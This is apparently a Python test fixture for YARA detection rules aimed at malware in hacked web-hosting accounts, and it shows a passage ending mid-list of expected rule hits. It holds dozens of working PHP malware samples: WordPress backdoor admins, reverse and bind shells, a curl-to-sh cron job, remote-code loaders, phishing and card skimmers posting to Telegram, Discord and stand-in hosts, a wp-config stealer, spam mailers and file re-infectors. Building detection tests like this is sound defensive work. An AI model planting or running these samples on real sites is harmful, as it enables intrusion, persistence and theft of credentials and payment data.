# ruff: noqa: E501
"""Must-hit / near-miss samples for issue 4r: malware found in hacked hosting accounts.

The variants were written blind (before reading signatures/ or any rule_samples_* table), from the
shapes a hosting admin finds in customer home dirs: WordPress admin creators, re-infectors, script
injectors, reverse shells, loaders, mailers, phishing exfil, competitor cleaners, icon includes.
Each one the rules missed before issue 4r is checked as written, `padded(...)` and `embedded(...)`;
every rule of signatures/hosting_infections.yar also has legitimate near-miss code (plugins DO call
wp_create_user, touch(), fsockopen, mail() and the Telegram API).  Nothing here comes from the
malware corpus.  Collected by tests/test_rules.py.
"""

from __future__ import annotations

from tests.sample_hosts import embedded, padded, plain

#: Blind variants (name -> PHP source) that a rule of this issue catches.
VARIANTS: dict[str, str] = {
    "wp_admin_fixed_creds_init": "<?php\nadd_action('init', function () {\n    if (!username_exists('wpsupport')) {\n        $id = wp_create_user('wpsupport', 'Zx9!pQ2#rT', 'wpsupport@mailinator.com');\n        $u = new WP_User($id);\n        $u->set_role('administrator');\n    }\n});\n",
    "functions_php_admin_cookie": "<?php\nfunction wp_core_helper_sync() {\n    if (isset($_COOKIE['wphelper']) && md5($_COOKIE['wphelper']) == '5f4dcc3b5aa765d61d8327deb882cf99') {\n        $login = 'adminbackup';\n        if (!username_exists($login)) {\n            $uid = wp_create_user($login, 'Passw0rd!2024', 'adm@' . $_SERVER['HTTP_HOST']);\n            $user = get_user_by('id', $uid);\n            $user->remove_role('subscriber');\n            $user->add_role('administrator');\n        }\n    }\n}\nadd_action('wp_head', 'wp_core_helper_sync');\n",
    "wp_admin_direct_sql": "<?php\nrequire('wp-config.php');\nglobal $wpdb;\n$wpdb->query(\"INSERT INTO {$wpdb->users} (user_login,user_pass,user_email,user_registered,user_status,display_name) VALUES ('root_adm',MD5('qwerty123'),'r@x.com',NOW(),0,'root_adm')\");\n$uid = $wpdb->insert_id;\n$wpdb->query(\"INSERT INTO {$wpdb->usermeta} (user_id,meta_key,meta_value) VALUES ($uid,'{$wpdb->prefix}capabilities','a:1:{s:13:\\\"administrator\\\";b:1;}')\");\n$wpdb->query(\"INSERT INTO {$wpdb->usermeta} (user_id,meta_key,meta_value) VALUES ($uid,'{$wpdb->prefix}user_level','10')\");\necho 'ok';\n",
    "wp_admin_b64_creds": "<?php\nadd_action('wp_loaded', 'wpx_bootstrap');\nfunction wpx_bootstrap() {\n    $c = json_decode(base64_decode('eyJ1IjoiYWRtaW4yIiwicCI6IkFiYzEyMyEiLCJlIjoiYUBiLmNvbSJ9'), true);\n    if (!get_user_by('login', $c['u'])) {\n        $id = wp_insert_user(array('user_login' => $c['u'], 'user_pass' => $c['p'], 'user_email' => $c['e'], 'role' => 'administrator'));\n    }\n}\n",
    "wp_admin_hide_users_list": "<?php\nadd_action('pre_user_query', 'hide_support_user');\nfunction hide_support_user($q) {\n    global $wpdb;\n    $q->query_where = str_replace('WHERE 1=1', \"WHERE 1=1 AND {$wpdb->users}.user_login != 'wpsupport'\", $q->query_where);\n}\nif (!username_exists('wpsupport')) {\n    $uid = wp_create_user('wpsupport', 'S3cr3t!!', 'sup@wordpress-helper.org');\n    $user = new WP_User($uid);\n    $user->set_role('administrator');\n}\n",
    "plugin_request_include": "<?php\n/*\nPlugin Name: Hello Dolly Extended\n*/\nadd_action('plugins_loaded', 'hde_load');\nfunction hde_load() {\n    if (isset($_FILES['hde']) && $_REQUEST['k'] == 'x91') {\n        $t = sys_get_temp_dir() . '/' . md5(time()) . '.php';\n        move_uploaded_file($_FILES['hde']['tmp_name'], $t);\n        include $t;\n        @unlink($t);\n    }\n}\n",
    "wpconfig_top_include_ico": "<?php\n@include \"\\x2fhome\\x2fuser1\\x2fpublic_html\\x2fwp-includes\\x2fimages\\x2f.b3c9f1a2.ico\";\n/**\n * The base configuration for WordPress\n */\ndefine( 'DB_NAME', 'wpdb' );\n",
    "index_top_post_eval": "<?php if(isset($_POST['wp_c'])){$a=str_rot13('riny');$b=$_POST['wp_c'];@$a(base64_decode($b));exit;} ?><?php\ndefine('WP_USE_THEMES', true);\nrequire __DIR__ . '/wp-blog-header.php';\n",
    "loader_fsockopen_eval": "<?php\n$fp = fsockopen('91.215.153.20', 80, $errno, $errstr, 10);\nfwrite($fp, \"GET /x.txt HTTP/1.0\\r\\nHost: 91.215.153.20\\r\\n\\r\\n\");\n$resp = '';\nwhile (!feof($fp)) { $resp .= fgets($fp, 1024); }\nfclose($fp);\n$parts = explode(\"\\r\\n\\r\\n\", $resp, 2);\neval($parts[1]);\n",
    "loader_url_from_get": "<?php\nif (!empty($_GET['url'])) {\n    $fn = basename($_GET['url']);\n    if (copy($_GET['url'], $fn)) { echo \"<a href='$fn'>$fn</a>\"; } else { echo 'copy failed'; }\n}\n",
    "loader_include_remote_rfi": "<?php\n$x = isset($_REQUEST['pg']) ? $_REQUEST['pg'] : 'home';\n@ini_set('allow_url_include', 1);\ninclude($x);\n",
    "reinfect_php_touch": "<?php\n$payload = '<?php if(isset($_REQUEST[\"z\"])){eval($_REQUEST[\"z\"]);} ?>';\n$it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator($_SERVER['DOCUMENT_ROOT']));\nforeach ($it as $file) {\n    if (substr($file, -4) !== '.php') continue;\n    $c = file_get_contents($file);\n    if (strpos($c, 'REQUEST[\"z\"]') !== false) continue;\n    $t = filemtime($file);\n    file_put_contents($file, $payload . $c);\n    touch($file, $t);\n}\n",
    "reinfect_glob_touch_js": "<?php\nfunction inf($d) {\n    foreach (glob($d . '/*') as $f) {\n        if (is_dir($f)) { inf($f); continue; }\n        if (preg_match('/\\.js$/', $f)) {\n            $m = filemtime($f);\n            $s = file_get_contents($f);\n            if (strpos($s, 'eval(String.fromCharCode') === false) {\n                file_put_contents($f, $s . \"\\n;eval(String.fromCharCode(118,97,114,32,115,61,100,111,99));\");\n                touch($f, $m, $m);\n            }\n        }\n    }\n}\ninf(dirname(__FILE__));\n",
    "reinfect_cron_install": "<?php\n$c = '* * * * * curl -s http://45.9.148.3/k.sh | sh';\n$tmp = '/tmp/.c' . rand();\nfile_put_contents($tmp, shell_exec('crontab -l 2>/dev/null') . $c . \"\\n\");\nshell_exec('crontab ' . $tmp);\nunlink($tmp);\necho 'cron ok';\n",
    "reinfect_wp_cron_restore": "<?php\nif (!wp_next_scheduled('wp_core_restore')) { wp_schedule_event(time(), 'hourly', 'wp_core_restore'); }\nadd_action('wp_core_restore', function () {\n    $t = ABSPATH . 'wp-includes/class-wp-cache.php';\n    if (!file_exists($t)) {\n        $b = get_option('wp_core_blob');\n        file_put_contents($t, base64_decode($b));\n        touch($t, filemtime(ABSPATH . 'wp-includes/version.php'));\n    }\n});\n",
    "reinfect_self_copy": "<?php\n$me = file_get_contents(__FILE__);\n$dirs = array('wp-content/uploads', 'wp-includes/js', 'wp-admin/css', 'wp-content/themes');\nforeach ($dirs as $d) {\n    $n = $_SERVER['DOCUMENT_ROOT'] . '/' . $d . '/' . substr(md5($d), 0, 8) . '.php';\n    if (!file_exists($n)) { @file_put_contents($n, $me); @touch($n, time() - 86400 * 365); @chmod($n, 0444); }\n}\n",
    "js_inject_all_html": "<?php\n$s = '<script src=\"https://js.statcounter-cdn.com/lib.js\"></script>';\n$rii = new RecursiveIteratorIterator(new RecursiveDirectoryIterator('.'));\nforeach ($rii as $f) {\n    $n = $f->getPathname();\n    if (preg_match('/\\.(php|html|htm)$/', $n)) {\n        $c = file_get_contents($n);\n        if (strpos($c, 'statcounter-cdn') === false) { file_put_contents($n, $c . $s); }\n    }\n}\necho 'done';\n",
    "js_inject_footer_wp_option": "<?php\nglobal $wpdb;\n$js = \"<script type='text/javascript' src='https://cdn.jsdelivr-cache.com/n.js'></script>\";\n$wpdb->query(\"UPDATE {$wpdb->posts} SET post_content = CONCAT(post_content, '\" . esc_sql($js) . \"') WHERE post_status='publish'\");\nupdate_option('wp_footer_code', $js);\n",
    "js_inject_body_replace": "<?php\nforeach (glob('{*.php,*/*.php,*/*/*.php}', GLOB_BRACE) as $file) {\n    $code = file_get_contents($file);\n    if (stripos($code, '</body>') !== false && strpos($code, 'ad-hexa') === false) {\n        $code = str_ireplace('</body>', \"<script>var s=document.createElement('script');s.src='//ad-hexa.top/t.js';document.body.appendChild(s);</script></body>\", $code);\n        file_put_contents($file, $code);\n    }\n}\n",
    "deface_home_dirs": "<?php\n$users = file('/etc/passwd');\nforeach ($users as $l) {\n    $u = explode(':', $l);\n    $d = '/home/' . $u[0] . '/public_html/';\n    if (is_writable($d)) { @copy($_POST['src'], $d . 'index.php'); echo \"$d OK\\n\"; }\n}\n",
    "revshell_fsock_proc_open": "<?php\n$ip = $_GET['ip']; $port = (int)$_GET['port'];\n$sock = fsockopen($ip, $port);\n$proc = proc_open('/bin/sh -i', array(0 => $sock, 1 => $sock, 2 => $sock), $pipes);\n",
    "revshell_stream_client_loop": "<?php\nset_time_limit(0);\n$s = stream_socket_client('tcp://' . $_POST['h'] . ':' . $_POST['p'], $e, $es, 30);\nfwrite($s, \"connected\\n\");\nwhile (!feof($s)) {\n    $cmd = fgets($s, 2048);\n    if (trim($cmd) == 'exit') break;\n    fwrite($s, shell_exec($cmd . ' 2>&1'));\n}\nfclose($s);\n",
    "revshell_socket_create": "<?php\n$sock = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);\nsocket_connect($sock, $_REQUEST['rh'], $_REQUEST['rp']);\nsocket_write($sock, \"shell> \");\nwhile ($c = socket_read($sock, 2048, PHP_NORMAL_READ)) {\n    $o = ''; exec(trim($c), $o);\n    socket_write($sock, implode(\"\\n\", $o) . \"\\nshell> \");\n}\n",
    "revshell_bash_dev_tcp": "<?php\nif (isset($_GET['rip'])) {\n    system(\"bash -c 'bash -i >& /dev/tcp/\" . $_GET['rip'] . \"/\" . $_GET['rport'] . \" 0>&1'\");\n}\n",
    "mailer_json_payload": "<?php\n$d = json_decode(file_get_contents('php://input'), true);\nforeach ($d['rcpt'] as $r) {\n    $h = \"From: {$d['from']}\\r\\nReply-To: {$d['reply']}\\r\\nContent-Type: text/html; charset=UTF-8\\r\\n\";\n    mail($r, '=?UTF-8?B?' . base64_encode($d['subj']) . '?=', $d['html'], $h);\n}\necho json_encode(array('status' => 'sent', 'n' => count($d['rcpt'])));\n",
    "phish_telegram_bot": "<?php\n$token = '5812345678:AAHq1xYzAbCdEfGhIjKlMnOpQrStUvWxYz0';\n$chat = '-1001234567890';\n$text = \"CC: {$_POST['ccnum']}\\nEXP: {$_POST['exp']}\\nCVV: {$_POST['cvv']}\\nName: {$_POST['name']}\\nIP: {$_SERVER['REMOTE_ADDR']}\";\nfile_get_contents(\"https://api.telegram.org/bot$token/sendMessage?chat_id=$chat&text=\" . urlencode($text));\nheader('Location: ./loading.php');\n",
    "phish_telegram_curl": "<?php\n$data = array('chat_id' => '98765432', 'text' => 'user: ' . $_POST['user'] . ' pass: ' . $_POST['pass'] . ' ua: ' . $_SERVER['HTTP_USER_AGENT']);\n$ch = curl_init('https://api.telegram.org/bot6011223344:AAE-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx/sendMessage');\ncurl_setopt($ch, CURLOPT_POST, 1);\ncurl_setopt($ch, CURLOPT_POSTFIELDS, $data);\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\ncurl_exec($ch);\necho \"<script>window.location='index.php?step=2'</script>\";\n",
    "carding_checkout_skim": "<?php\nadd_action('woocommerce_checkout_process', function () {\n    $d = array($_POST['billing_first_name'], $_POST['billing_last_name'], $_POST['card_number'], $_POST['card_expiry'], $_POST['card_cvc']);\n    $ctx = stream_context_create(array('http' => array('method' => 'POST', 'header' => 'Content-type: application/x-www-form-urlencoded', 'content' => http_build_query(array('d' => base64_encode(implode('|', $d)))))));\n    @file_get_contents('https://analytics-wc.com/collect', false, $ctx);\n});\n",
    "kill_other_shells": "<?php\n$bad = array('wso', 'c99', 'r57', 'b374k', 'FilesMan', 'IndoXploit');\n$it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator($_SERVER['DOCUMENT_ROOT']));\nforeach ($it as $f) {\n    if ($f->getFilename() == basename(__FILE__)) continue;\n    if (substr($f, -4) != '.php') continue;\n    $c = @file_get_contents($f);\n    foreach ($bad as $b) { if (strpos($c, $b) !== false) { @unlink($f); echo \"removed $f\\n\"; break; } }\n}\n",
    "kill_processes": "<?php\n$out = shell_exec('ps aux');\nforeach (explode(\"\\n\", $out) as $l) {\n    if (preg_match('/(xmrig|kdevtmpfsi|kinsing|minerd)/', $l)) {\n        $p = preg_split('/\\s+/', $l);\n        shell_exec('kill -9 ' . $p[1]);\n    }\n}\n",
    "kill_lock_htaccess": "<?php\n$ht = \"<FilesMatch \\\".*\\\\.(php|PHP|phtml)$\\\">\\nOrder Allow,Deny\\nDeny from all\\n</FilesMatch>\\n<FilesMatch \\\"^(index.php|lock360.php)$\\\">\\nOrder Allow,Deny\\nAllow from all\\n</FilesMatch>\\n\";\nfile_put_contents($_SERVER['DOCUMENT_ROOT'] . '/.htaccess', $ht);\nchmod($_SERVER['DOCUMENT_ROOT'] . '/.htaccess', 0444);\n",
    "ico_include_hex": '<?php\n@include "\\x2fv\\x61r\\x2fw\\x77w\\x2fh\\x74m\\x6c\\x2fw\\x70-\\x63o\\x6et\\x65n\\x74\\x2f.\\x39f\\x33a\\x31c\\x62e\\x2ei\\x63o";\n',
    "png_include_concat": "<?php\n$p = dirname(__FILE__) . '/wp-content/uploads/2019/03/' . 'thumb' . '-150x150' . '.png';\nif (file_exists($p)) { include_once $p; }\n",
    "ico_include_chr": "<?php\n@include(chr(47).chr(104).chr(111).chr(109).chr(101).'/site/public_html/favicon_5e8a1b.ico');\n",
    "wp_reset_admin_pass": "<?php\nrequire_once dirname(__FILE__) . '/wp-load.php';\nif (!empty($_GET['np'])) {\n    wp_update_user(array('ID' => 1, 'user_pass' => $_GET['np']));\n    echo 'pass changed';\n}\n",
    "wp_default_role_admin": "<?php\nadd_action('init', function () {\n    if (get_option('default_role') !== 'administrator') {\n        update_option('users_can_register', 1);\n        update_option('default_role', 'administrator');\n    }\n});\n",
    "wp_wpdb_insert_user": "<?php\nglobal $wpdb;\n$wpdb->insert($wpdb->users, array('user_login' => 'sysadm', 'user_pass' => wp_hash_password('Sys@dm!n2023'), 'user_email' => 'sysadm@example.net', 'user_registered' => current_time('mysql')));\n$id = $wpdb->insert_id;\nupdate_user_meta($id, $wpdb->prefix . 'capabilities', array('administrator' => true));\nupdate_user_meta($id, $wpdb->prefix . 'user_level', 10);\n",
    "joomla_sql_admin": "<?php\ndefine('_JEXEC', 1);\nrequire_once 'configuration.php';\n$c = new JConfig();\n$db = new mysqli($c->host, $c->user, $c->password, $c->db);\n$p = $c->dbprefix;\n$db->query(\"INSERT INTO {$p}users (name,username,email,password,block,registerDate) VALUES ('Super','jadmin','j@x.org','\" . md5('joomla123') . \"',0,NOW())\");\n$db->query(\"INSERT INTO {$p}user_usergroup_map (user_id,group_id) VALUES (\" . $db->insert_id . \",8)\");\necho 'ok';\n",
    "loader_data_uri_include": "<?php\n$x = file_get_contents('http://cdn-static-js.net/p.b64');\ninclude 'data://text/plain;base64,' . $x;\n",
    "loader_create_function_remote": "<?php\n$fn = create_function('', @file_get_contents('http://jquery-min.su/core.txt'));\n$fn();\n",
    "reinfect_all_wp_configs": "<?php\nforeach (glob('/home/*/public_html/wp-config.php') as $cfg) {\n    $c = file_get_contents($cfg);\n    if (strpos($c, 'wp-cache-ico') === false) {\n        $c = str_replace('<?php', \"<?php\\n@include '/tmp/.wp-cache-ico';\", $c);\n        file_put_contents($cfg, $c);\n    }\n}\n",
    "user_ini_prepend": "<?php\n$dir = $_SERVER['DOCUMENT_ROOT'];\nfile_put_contents($dir . '/.user.ini', \"auto_prepend_file=\" . $dir . \"/wp-content/uploads/.cache.php\\n\");\nfile_put_contents($dir . '/wp-content/uploads/.cache.php', base64_decode($_POST['b']));\n",
    "htaccess_prepend": "<?php\n$h = fopen($_SERVER['DOCUMENT_ROOT'] . '/.htaccess', 'a');\nfwrite($h, \"\\nphp_value auto_prepend_file \\\"\" . __DIR__ . \"/.sys.php\\\"\\n\");\nfclose($h);\n",
    "js_append_fopen_a": "<?php\n$js = \";var _0x1a2b=['\\x68\\x74\\x74\\x70'];(function(){var s=document.createElement('script');s.src='https://cdn-js.top/j.js';document.head.appendChild(s);})();\";\n$it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator('wp-content'));\nforeach ($it as $f) {\n    if (pathinfo($f, PATHINFO_EXTENSION) == 'js') { $h = fopen($f, 'a'); fwrite($h, $js); fclose($h); }\n}\n",
    "deface_docroot_b64": "<?php\n$root = $_SERVER['DOCUMENT_ROOT'];\n@rename($root . '/index.php', $root . '/index.php.bak');\nfile_put_contents($root . '/index.html', base64_decode('PGgxPkhhY2tlZCBieSBaM3JvPC9oMT4='));\necho 'Defaced';\n",
    "revshell_proc_open_bash": "<?php\n$s = fsockopen($_GET['h'], (int)$_GET['p']);\nproc_open('bash', array(0 => $s, 1 => $s, 2 => $s), $pipes);\n",
    "bindshell_socket": "<?php\n$s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);\nsocket_bind($s, '0.0.0.0', 31337);\nsocket_listen($s);\n$c = socket_accept($s);\nwhile (true) {\n    $in = socket_read($c, 1024);\n    $out = shell_exec($in);\n    socket_write($c, $out);\n}\n",
    "mailer_wp_mail_post_list": "<?php\nrequire 'wp-load.php';\n$emails = array_filter(array_map('trim', explode(\"\\n\", $_POST['to'])));\nforeach ($emails as $e) {\n    wp_mail($e, stripslashes($_POST['subj']), stripslashes($_POST['html']), array('Content-Type: text/html; charset=UTF-8', 'From: ' . $_POST['from']));\n}\necho count($emails) . ' sent';\n",
    "phish_discord_webhook": "<?php\n$msg = array('content' => \"**New login**\\nEmail: {$_POST['login']}\\nPassword: {$_POST['passwd']}\\nIP: {$_SERVER['REMOTE_ADDR']}\");\n$ch = curl_init('https://discord.com/api/webhooks/112233445566778899/AbCdEfGhIjKlMnOpQrStUvWxYz0123456789');\ncurl_setopt($ch, CURLOPT_POST, 1);\ncurl_setopt($ch, CURLOPT_POSTFIELDS, json_encode($msg));\ncurl_setopt($ch, CURLOPT_HTTPHEADER, array('Content-Type: application/json'));\ncurl_exec($ch);\nheader('Location: https://outlook.live.com');\n",
    "include_hidden_dot_php": "<?php\ninclude_once '/home/site/public_html/wp-content/plugins/akismet/views/.e5d9c1a0.php';\n",
    "xmlrpc_brute": "<?php\n$target = $_POST['target'];\n$pwds = explode(\"\\n\", $_POST['passwords']);\nforeach ($pwds as $pw) {\n    $xml = \"<?xml version=\\\"1.0\\\"?><methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value>{$_POST['user']}</value></param><param><value>\" . trim($pw) . \"</value></param></params></methodCall>\";\n    $ch = curl_init($target . '/xmlrpc.php');\n    curl_setopt($ch, CURLOPT_POSTFIELDS, $xml);\n    curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n    if (strpos(curl_exec($ch), 'isAdmin') !== false) { echo \"FOUND: $pw\"; break; }\n}\n",
    "wp_login_password_logger": "<?php\nadd_action('wp_authenticate', function ($username, $password) {\n    if (!empty($password)) {\n        @file_put_contents(WP_CONTENT_DIR . '/uploads/.sess.log', $username . ':' . $password . \"\\n\", FILE_APPEND);\n    }\n}, 1, 2);\n",
    "wp_master_password": "<?php\nadd_filter('authenticate', function ($user, $username, $password) {\n    if ($password === 'Xc9!mAst3r#pw') {\n        $u = get_user_by('login', $username);\n        if ($u) return $u;\n    }\n    return $user;\n}, 1, 3);\n",
    "revshell_popen_relay": "<?php\n$sock = stream_socket_client('tcp://' . $_GET['host'] . ':' . $_GET['port']);\nwhile (($cmd = fgets($sock)) !== false) {\n    $p = popen($cmd, 'r');\n    while (!feof($p)) { fwrite($sock, fread($p, 4096)); }\n    pclose($p);\n}\n",
    "wpconfig_stealer": "<?php\n$cfg = @file_get_contents($_SERVER['DOCUMENT_ROOT'] . '/wp-config.php');\npreg_match_all(\"/define\\(\\s*'(DB_NAME|DB_USER|DB_PASSWORD|DB_HOST)',\\s*'([^']*)'/\", $cfg, $m);\n$q = http_build_query(array_combine($m[1], $m[2]));\n@file_get_contents('http://collect-cfg.top/c.php?h=' . $_SERVER['HTTP_HOST'] . '&' . $q);\n",
    "hidden_links_option": "<?php\nif (isset($_POST['wp_seo_l'])) { update_option('wp_seo_l', stripslashes($_POST['wp_seo_l'])); exit('ok'); }\nadd_filter('the_content', function ($c) {\n    return $c . '<div style=\"display:none\">' . get_option('wp_seo_l') . '</div>';\n});\n",
    "include_dot_jpg": "<?php\ninclude_once(dirname(__FILE__) . '/../../uploads/.thumb-cache.jpg');\n",
    "revshell_python_exec": '<?php\n$ip = $_GET[\'i\']; $port = $_GET[\'p\'];\nexec("python -c \'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\\"$ip\\",$port));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\\"/bin/sh\\",\\"-i\\"])\' > /dev/null 2>&1 &");\n',
    "wp_admin_header_creds": "<?php\nadd_action('init', function () {\n    if (!empty($_SERVER['HTTP_X_WPU']) && !username_exists($_SERVER['HTTP_X_WPU'])) {\n        $id = wp_insert_user(array('user_login' => $_SERVER['HTTP_X_WPU'], 'user_pass' => $_SERVER['HTTP_X_WPP'], 'role' => 'administrator'));\n    }\n});\n",
    "wp_rest_route_shell": "<?php\nadd_action('rest_api_init', function () {\n    register_rest_route('wp/v2', '/sys-health', array(\n        'methods' => 'POST',\n        'callback' => function ($r) { return array('o' => shell_exec($r['c'])); },\n        'permission_callback' => '__return_true',\n    ));\n});\n",
    "phish_print_r_post_mail": "<?php\n$body = print_r($_POST, true) . \"\\nIP: \" . $_SERVER['REMOTE_ADDR'] . \"\\nUA: \" . $_SERVER['HTTP_USER_AGENT'];\nmail('rezults.box@gmail.com', 'Chase Login ' . $_SERVER['REMOTE_ADDR'], $body);\nheader('Location: https://www.chase.com/');\n",
    "reinfect_html_links": "<?php\n$spam = '<div style=\"position:absolute;left:-3000px\"><a href=\"https://cheap-pills.top\">viagra</a></div>';\nforeach (glob('*/*.html') as $f) {\n    $c = file_get_contents($f);\n    if (strpos($c, 'cheap-pills') === false) { file_put_contents($f, str_replace('</html>', $spam . '</html>', $c)); }\n}\n",
    "bindshell_stream_server": "<?php\n$srv = stream_socket_server('tcp://0.0.0.0:4444', $errno, $errstr);\nwhile ($c = stream_socket_accept($srv, -1)) {\n    while (($line = fgets($c)) !== false) { fwrite($c, (string) shell_exec($line)); }\n    fclose($c);\n}\n",
    "wp_user_register_promote": "<?php\nadd_action('user_register', function ($id) {\n    $u = new WP_User($id);\n    if (substr($u->user_email, -14) === '@protonmail.ch') { $u->set_role('administrator'); }\n});\n",
    "wp_user_has_cap_cookie": "<?php\nadd_filter('user_has_cap', function ($all) {\n    if (isset($_COOKIE['wpx_dbg'])) { $all['manage_options'] = true; $all['administrator'] = true; $all['edit_plugins'] = true; }\n    return $all;\n});\n",
    "phish_json_store": "<?php\n$ip = $_SERVER['REMOTE_ADDR'];\nfile_put_contents(__DIR__ . '/data/' . md5($ip) . '.json', json_encode($_POST + array('ip' => $ip, 'ua' => $_SERVER['HTTP_USER_AGENT'])));\nheader('Location: https://www.paypal.com/signin');\n",
    "phish_telegram_b64_token": "<?php\n$api = base64_decode('aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnL2JvdDEyMzQ1Njc4OTpBQUZha2VUb2tlbi9zZW5kTWVzc2FnZQ==');\n$m = \"User: \" . $_POST['user'] . \"\\nCode: \" . $_POST['code'] . \"\\nIP: \" . $_SERVER['REMOTE_ADDR'];\nfile_get_contents($api . '?chat_id=555111222&text=' . urlencode($m));\necho '<script>location.href=\"wait.html\"</script>';\n",
    "reinfect_sibling_functions_php": "<?php\n$code = \"\\n@include_once('/tmp/.x1.ico');\\n\";\nforeach (glob('../*/wp-content/themes/*/functions.php') as $f) {\n    if (strpos(file_get_contents($f), '.x1.ico') === false) { file_put_contents($f, $code, FILE_APPEND); }\n}\n",
    "reinfect_js_prepend_docwrite": "<?php\n$payload = \"document.write('<scr'+'ipt src=\\\"https://cdn-jq.top/q.js\\\"></scr'+'ipt>');\\n\";\nforeach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator('wp-includes/js')) as $js) {\n    if (substr($js, -3) === '.js') { $t = filemtime($js); file_put_contents($js, $payload . file_get_contents($js)); touch($js, $t); }\n}\n",
    "revshell_fread_exec_array": "<?php\n$sock = fsockopen($_POST['ip'], $_POST['port']);\nwhile (!feof($sock)) {\n    $c = fread($sock, 1024);\n    $o = array();\n    exec($c, $o);\n    fwrite($sock, implode(\"\\n\", $o) . \"\\n\");\n}\n",
    "files_name_as_function": "<?php\nif (!empty($_FILES['f'])) { $_FILES['f']['name']($_FILES['f']['type']); }\n",
    "sql_console_hidden_menu": "<?php\nadd_action('admin_menu', function () { add_submenu_page(null, 'x', 'x', 'read', 'wp-dbx', 'wp_dbx_page'); });\nfunction wp_dbx_page() {\n    global $wpdb;\n    if (!empty($_POST['q'])) { print_r($wpdb->get_results(stripslashes($_POST['q']))); }\n    echo '<form method=\"post\"><textarea name=\"q\"></textarea><input type=\"submit\"></form>';\n}\n",
    "phish_bank_card_and_password": "<?php\n$cliente = $_POST['cliente'];\n$cpf = $_POST['cpf'];\n$senha = $_POST['senha_internet'];\n$cartao = $_POST['num_cartao'];\n$validade = $_POST['validade'];\n$cvv = $_POST['cvv'];\ninclude 'enviar.php';\nheader('Location: aguarde.php');\n",
}

#: (rule, variant name): the rule must hit the variant in all three forms.
HITS: list[tuple[str, str]] = [
    ("SPAMGEAR_HOSTINF_WpAdminFixedCreds", "wp_admin_fixed_creds_init"),
    ("SPAMGEAR_HOSTINF_WpAdminFixedCreds", "functions_php_admin_cookie"),
    ("SPAMGEAR_HOSTINF_WpAdminSqlInsert", "wp_admin_direct_sql"),
    ("SPAMGEAR_HOSTINF_WpAdminFixedCreds", "wp_admin_b64_creds"),
    ("SPAMGEAR_HOSTINF_WpAdminFixedCreds", "wp_admin_hide_users_list"),
    ("SPAMGEAR_HOSTINF_UploadedFileIncluded", "plugin_request_include"),
    ("SPAMGEAR_HOSTINF_IncludeIconFile", "wpconfig_top_include_ico"),
    ("SPAMGEAR_HOSTINF_EncodedSinkVarOnInput", "index_top_post_eval"),
    ("SPAMGEAR_HOSTINF_SocketBodyEval", "loader_fsockopen_eval"),
    ("SPAMGEAR_HOSTINF_CopyFromInputSource", "loader_url_from_get"),
    ("SPAMGEAR_HOSTINF_AllowUrlIncludeInclude", "loader_include_remote_rfi"),
    ("SPAMGEAR_HOSTINF_WriteBackTimestomp", "reinfect_php_touch"),
    ("SPAMGEAR_HOSTINF_ScriptTagFileInjector", "reinfect_glob_touch_js"),
    ("SPAMGEAR_HOSTINF_WriteBackTimestomp", "reinfect_glob_touch_js"),
    ("SPAMGEAR_HOSTINF_CronDownloadExec", "reinfect_cron_install"),
    ("SPAMGEAR_HOSTINF_DecodedWriteTimestomp", "reinfect_wp_cron_restore"),
    ("SPAMGEAR_HOSTINF_SelfCopyHidden", "reinfect_self_copy"),
    ("SPAMGEAR_HOSTINF_ScriptTagFileInjector", "js_inject_all_html"),
    ("SPAMGEAR_HOSTINF_PostContentScriptAppend", "js_inject_footer_wp_option"),
    ("SPAMGEAR_HOSTINF_ScriptTagFileInjector", "js_inject_body_replace"),
    ("SPAMGEAR_HOSTINF_CopyFromInputSource", "deface_home_dirs"),
    ("SPAMGEAR_HOSTINF_HomeDirWalker", "deface_home_dirs"),
    ("SPAMGEAR_HOSTINF_SocketAsShellDescriptors", "revshell_fsock_proc_open"),
    ("SPAMGEAR_HOSTINF_SocketCommandLoop", "revshell_stream_client_loop"),
    ("SPAMGEAR_HOSTINF_SocketCommandLoop", "revshell_socket_create"),
    ("SPAMGEAR_HOSTINF_DevTcpShell", "revshell_bash_dev_tcp"),
    ("SPAMGEAR_HOSTINF_JsonBodyMailLoop", "mailer_json_payload"),
    ("SPAMGEAR_HOSTINF_TelegramCredentialExfil", "phish_telegram_bot"),
    ("SPAMGEAR_HOSTINF_TelegramCredentialExfil", "phish_telegram_curl"),
    ("SPAMGEAR_HOSTINF_CardFieldsEncodedExfil", "carding_checkout_skim"),
    ("SPAMGEAR_HOSTINF_ShellNameHunter", "kill_other_shells"),
    ("SPAMGEAR_HOSTINF_MinerKiller", "kill_processes"),
    ("SPAMGEAR_HOSTINF_HtaccessLocker", "kill_lock_htaccess"),
    ("SPAMGEAR_HOSTINF_IncludeHexPath", "ico_include_hex"),
    ("SPAMGEAR_HOSTINF_IncludeIconFile", "png_include_concat"),
    ("SPAMGEAR_HOSTINF_IncludeIconFile", "ico_include_chr"),
    ("SPAMGEAR_HOSTINF_WpAdminPasswordFromInput", "wp_reset_admin_pass"),
    ("SPAMGEAR_HOSTINF_WpOpenAdminRegistration", "wp_default_role_admin"),
    ("SPAMGEAR_HOSTINF_WpAdminFixedCreds", "wp_wpdb_insert_user"),
    ("SPAMGEAR_HOSTINF_WpAdminSqlInsert", "joomla_sql_admin"),
    ("SPAMGEAR_HOSTINF_IncludeDataWrapper", "loader_data_uri_include"),
    ("SPAMGEAR_HOSTINF_RemoteCreateFunction", "loader_create_function_remote"),
    ("SPAMGEAR_HOSTINF_HomeDirWalker", "reinfect_all_wp_configs"),
    ("SPAMGEAR_HOSTINF_OpenTagCodeInjector", "reinfect_all_wp_configs"),
    ("SPAMGEAR_HOSTINF_HiddenPrependWriter", "user_ini_prepend"),
    ("SPAMGEAR_HOSTINF_HiddenPrependWriter", "htaccess_prepend"),
    ("SPAMGEAR_HOSTINF_ScriptTagFileInjector", "js_append_fopen_a"),
